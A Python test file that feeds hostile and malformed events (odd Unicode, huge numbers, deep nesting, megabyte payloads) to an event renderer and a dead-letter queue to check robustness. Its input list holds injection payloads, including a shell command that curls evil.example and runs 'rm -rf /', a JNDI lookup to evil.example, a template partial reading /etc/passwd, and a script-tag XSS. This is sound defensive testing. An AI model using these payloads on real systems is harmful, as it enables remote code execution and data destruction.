"""Events that a hostile or careless producer, or a requester by what they type, can bring about."""

import json
import random
import sys
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any, Final

from grantwire.stores.dead_letters import DeadLetterQueue
from tests.hostile.cases import Came, Case
from tests.hostile.dispatched import VALUES, WHOLE, Check, Sending, came_of, envelope, event
from tests.hostile.world import World

MESSAGE_BYTES: Final = 1024 * 1024  # of SQS, attributes included
_DEEP: Final = "failed: the request cannot be rendered: .*nests deeper than 100 levels"
_LONG: Final = "failed: the request cannot be rendered: the rendered text is longer than 262144 characters"
_BODY: Final = (
    '"event_type": "RequestCreated", "event_time": 1795000000, "data": {"id": "r1", "requester": {"name": "Ana"}'
)

_TEXTS: Final = {
    "a placeholder": "{{data.id}}",
    "a section": "{{#each data}}{{this}}{{/each}}",
    "three braces": "{{{data}}}",
    "braces without an end": "{{",
    "an end without braces": "}}",
    "a partial": "{{> /etc/passwd}}",
    "changed delimiters": "{{=<% %>=}}",
    "a format string": "{0.__class__.__init__.__globals__}",
    "a quote and a field": '", "admin": true, "x": "',
    "a backslash at the end": "ends with \\",
    "an escape": "\\u0022\\n\\",
    "a script": "</script><script>alert(1)</script>",
    "line breaks": "a\r\nb\u2028c\u2029d\x85e",
    "NULs": "a\0b",
    "control characters": "".join(map(chr, range(32))) + "\x7f",
    "half a surrogate pair": "a\ud83db",
    "two wrong halves": "\udc00\ud800",
    "no characters": "\ufffe\uffff\U0001ffff",
    "text backwards": "\u202e\u2066abc\u2069",
    "a byte order mark": "\ufeffabc",
    "a shell's command": "$(curl evil.example) `id` ; rm -rf /",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "nothing": "",
    "400,000 letters, which nobody shows": "x" * 200_000,
}
_NUMBERS: Final = {
    "1e999": None,
    "-1e999": None,
    "NaN": None,
    "1e-999": 0,
    "-0.0": 0,
    "1e308": 1e308,
    "9" * 400: int("9" * 400),
    "0.1": 0.1,
    "9007199254740993": 9007199254740993,
}
_TIMES: Final = ("1e999", "-1e999", "NaN", "-1", "1e308", '"now"', "[]", "{}", "true", "null", '"\\ud83d"', "9" * 4000)
_IDS: Final = (
    '""',
    "null",
    "[]",
    '{"a": 1}',
    "1e999",
    '"\\ud83d"',
    '"a#b\\r\\nc"',
    '"../../x"',
    "true",
    '"' + "i" * 100_000 + '"',
)
_UNUSABLE: Final = {
    "no object": ("[]", "dead letter: the event is a list.*"),
    "a text": ('"event"', "dead letter: the event is text.*"),
    "a number": ("1e999", "dead letter: the event is a number.*"),
    "null": ("null", "dead letter: .*"),
    "an empty object": ("{}", "dead letter: the event has no 'detail-type'.*"),
    "a detail-type of lists": ('{"detail-type": [[]]}', "ignored"),
    "a detail-type of 100 KB": ('{"detail-type": "' + "t" * 100_000 + '"}', "ignored"),
    "no detail": ('{"detail-type": "RequestCreated"}', "dead letter: 'detail' is missing.*"),
    "detail a text": ('{"detail-type": "RequestCreated", "detail": "{}"}', "dead letter: 'detail' is text.*"),
    "no data": ('{"detail-type": "RequestCreated", "detail": {}}', "dead letter: 'detail.data' is missing.*"),
    "data a list": (
        '{"detail-type": "RequestCreated", "detail": {"data": []}}',
        "dead letter: 'detail.data' is a list.*",
    ),
    "nothing to know it by": (
        '{"detail-type": "RequestCreated", "detail": {"data": {}}}',
        "dead letter: .* neither .*",
    ),
}


def cases() -> Iterator[Case]:
    """All of the family."""
    for name, text in _TEXTS.items():
        yield _case(f"a name of {name}", json.dumps(event(requester={"name": text})), check=partial(_who, text))
    for text in ("{{data.id}}", '"', "half \ud83d", "\0"):
        raw = json.dumps(event(**{text: text, "requester": {"name": "Ana", text: [text]}}))
        yield _case(f"keys of {text!r}", raw, WHOLE, check=partial(_has_key, text))
    for key in ("__class__", "__proto__", "constructor", "toString", "keys", "0", "-1", "this", "@root", "../a"):
        yield _case(f"a key {key}", json.dumps(event(**{key: {"x": 1}})), WHOLE, check=partial(_has_key, key))
    for text, number in _NUMBERS.items():
        yield _case(f"the number {text[:12]}", _raw(f'"n": {text}'), check=partial(_is, "n", number))
    for text in _TIMES:
        yield _case(f"event_time {text[:12]}", _raw("", time=text))
    for text in _IDS:
        yield _case(f"data.id {text[:12]}", _raw("", identity=text))
    for name, (raw, expects) in _UNUSABLE.items():
        yield _case(name, raw, expects=expects)
    yield _case("duplicate keys", _raw('"id": "first", "id": "last"'), check=partial(_is, "id", "last"))
    yield _case("duplicate data", f'{{"detail-type": "RequestCreated", "detail": {{"data": [], {_BODY}}}}}}}')
    yield _case("depth 1,000 of lists, unused", _raw('"x": ' + "[" * 1000 + "]" * 1000))
    yield _case("depth 1,000 of lists, sent", _raw('"x": ' + "[" * 1000 + "]" * 1000), WHOLE, expects=_DEEP)
    yield _case("depth 1,000 of objects", _raw('"x": ' + '{"a":' * 1000 + "1" + "}" * 1000), WHOLE, expects=_DEEP)
    yield _case("depth 90, sent", _raw('"x": ' + "[" * 90 + "]" * 90), WHOLE)
    megabyte = 1_000_000
    yield _case("1 MB of text", json.dumps(event(justification="x" * megabyte)), expects=_LONG)
    yield _case("1 MB of text, unused", json.dumps(event(other="x" * megabyte)))
    yield _case("1 MB of quotes", json.dumps(event(justification='"' * (megabyte // 2))), expects=_LONG)
    yield _case("1 MB of emoji", json.dumps(event(other="😀" * (megabyte // 4)), ensure_ascii=False))
    yield _case(
        "1 MB of keys", json.dumps(event(**{f"k{number}": 0 for number in range(megabyte // 11)})), WHOLE, expects=_LONG
    )
    yield _case("1 MB of empty lists", json.dumps(event(x=[[]] * (megabyte // 4))), WHOLE, expects=_LONG)
    yield _case(
        "1 MB of combining marks", json.dumps(event(other="a" + "\u0315\u0300" * (megabyte // 4)), ensure_ascii=False)
    )
    for hops in ("true", "-5", '"4"', "1e999", "null", "[4]"):
        yield _case(f"grantwire_hops {hops}", _raw("", more=f', "grantwire_hops": {hops}'))
    yield from _letters()


def _case(name: str, raw: str, template: str = VALUES, *, check: Check = lambda _: "", expects: str = "sent") -> Case:
    return Case(family="events", name=name, attack=partial(_taken, raw, template, check), expects=expects, works=True)


def _taken(raw: str, template: str, check: Check, world: World) -> Came:
    sending, parsed = Sending(template), _read(raw)
    sending.take(event(id="the first one"))
    return came_of(sending, parsed, check, world)


def _read(raw: str) -> object:
    """As Lambda's runtime, a Python 3.13, reads it: an older one bounds the depth of JSON by that of calls."""
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(10_000)
    try:
        return json.loads(raw)
    finally:
        sys.setrecursionlimit(limit)


def _raw(fields: str, *, time: str = "1795000000", identity: str = '"r1"', more: str = "") -> str:
    """An event's text, which no JSON writer would write."""
    data = f'{{"id": {identity}, "requester": {{"name": "Ana"}}{"," if fields else ""}{fields}}}'
    detail = f'{{"event_type": "RequestCreated", "event_time": {time}, "data": {data}{more}}}'
    return f'{{"id": "1", "detail-type": "RequestCreated", "time": "2026-11-18T11:06:40Z", "detail": {detail}}}'


def _who(name: str, body: Any) -> str:
    return _is("who", name, body)


def _is(field: str, expected: object, body: Any) -> str:
    return "" if body[field] == expected else f"{field} came as {body[field]!r}"[:100]


def _has_key(key: str, body: Any) -> str:
    return "" if key in body["all"] else f"{key!r} is missing"


# Dead letters ---------------------------------------------------------------------------------------------------------
def _letters() -> Iterator[Case]:
    """An event nobody can use, of 1 MB, must go into a message of 1 MiB, and come out of it as it was."""
    chance = random.Random(7)
    size = 1_040_000
    texts: dict[str, Callable[[], str]] = {
        "letters": lambda: "x" * size,
        "quotes": lambda: '"' * (size // 2),
        "emoji": lambda: "😀" * (size // 4),
        "hexadecimal noise": lambda: "".join(chance.choices("0123456789abcdef", k=size)),
        "NULs": lambda: "\0" * (size // 6),
        "characters SQS refuses": lambda: "\ufffe\uffff" * 1000,
        "halves of surrogate pairs": lambda: "\ud83d" * 1000,
        "U+FFFF, a megabyte": lambda: "\uffff" * (size // 3),
    }
    for name, text in texts.items():
        yield Case(
            family="events", name=f"a dead letter of {name}", attack=partial(_kept, text), expects="kept and taken out"
        )
    noise = "".join(map(chr, range(32, 127))).replace("\\", "").replace('"', "")
    attack = partial(_kept, lambda: "".join(chance.choices(noise, k=size)))
    yield Case(family="events", name="a dead letter of pure noise", attack=attack, expects="kept without the event")


class _Queue:
    """SQS, as far as it refuses messages."""

    def __init__(self) -> None:
        self.body = ""

    def send_message(self, *, QueueUrl: str, MessageBody: str, MessageAttributes: Any) -> None:  # noqa: N803
        size = (
            len(MessageBody.encode()) + len(MessageAttributes["reason"]["StringValue"].encode()) + len("reasonString")
        )
        if size > MESSAGE_BYTES:
            raise ValueError(f"InvalidParameterValue: the message has {size} bytes")
        if any(
            (one < " " and one not in "\t\n\r") or "\ud800" <= one <= "\udfff" or one in "\ufffe\uffff"
            for one in MessageBody
        ):
            raise ValueError("InvalidMessageContents")
        self.body = MessageBody

    def receive_message(self, **_: Any) -> Any:
        return {"Messages": [{"ReceiptHandle": "1", "Body": self.body}]}


def _kept(text: Callable[[], str], world: World) -> Came:
    given = envelope({"data": [], "text": text()})
    client = _Queue()
    queue = DeadLetterQueue(client=lambda: client, queue_url="q")  # type: ignore[arg-type, return-value]
    world.meter.start()
    queue.keep(given, "the reason, ü" * 100)
    world.meter.stop()
    if "too large for this queue" in client.body:
        return Came(outcome="kept without the event")
    [letter] = queue.take()
    return Came(outcome="kept and taken out" if letter.event == given else "another event came out")
